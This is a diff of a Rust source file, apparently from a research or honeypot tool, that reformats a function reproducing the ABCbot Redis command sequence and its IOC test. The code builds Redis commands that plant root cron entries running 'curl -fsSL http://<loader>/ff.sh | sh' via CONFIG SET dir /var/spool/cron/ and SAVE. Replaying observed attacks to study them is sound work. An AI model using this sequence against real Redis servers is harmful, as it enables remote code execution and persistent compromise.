@@ -208,15 +208,23 @@ pub fn p2pinfect_commands(p: &CampaignParams) -> Vec<Vec<String>> {
 /// The Redis command sequence of Listing 2 (ABCbot).
 pub fn abcbot_commands(p: &CampaignParams) -> Vec<Vec<String>> {
     let url = format!("http://{}/ff.sh", p.loader());
-    let cron = |minute: &str| {
-        format!("\n*/{minute} * * * * root curl -fsSL {url} | sh\n")
-    };
+    let cron = |minute: &str| format!("\n*/{minute} * * * * root curl -fsSL {url} | sh\n");
     vec![
         vec!["SET".into(), "backup1".into(), cron("2")],
         vec!["SET".into(), "backup2".into(), cron("3")],
         vec!["SET".into(), "backup3".into(), cron("4")],
-        vec!["CONFIG".into(), "SET".into(), "dir".into(), "/var/spool/cron/".into()],
-        vec!["CONFIG".into(), "SET".into(), "dbfilename".into(), "root".into()],
+        vec![
+            "CONFIG".into(),
+            "SET".into(),
+            "dir".into(),
+            "/var/spool/cron/".into(),
+        ],
+        vec![
+            "CONFIG".into(),
+            "SET".into(),
+            "dbfilename".into(),
+            "root".into(),
+        ],
         vec!["SAVE".into()],
     ]
 }
@@ -353,7 +361,11 @@ mod tests {
     fn abcbot_matches_listing2_ioc() {
         let p = CampaignParams::derive(2);
         let cmds = abcbot_commands(&p);
-        let joined: String = cmds.iter().map(|c| c.join(" ")).collect::<Vec<_>>().join("\n");
+        let joined: String = cmds
+            .iter()
+            .map(|c| c.join(" "))
+            .collect::<Vec<_>>()
+            .join("\n");
         assert!(joined.contains("/ff.sh"), "ABCbot IOC is the ff.sh loader");
         assert!(joined.contains("/var/spool/cron/"));
         assert_eq!(cmds.len(), 6);
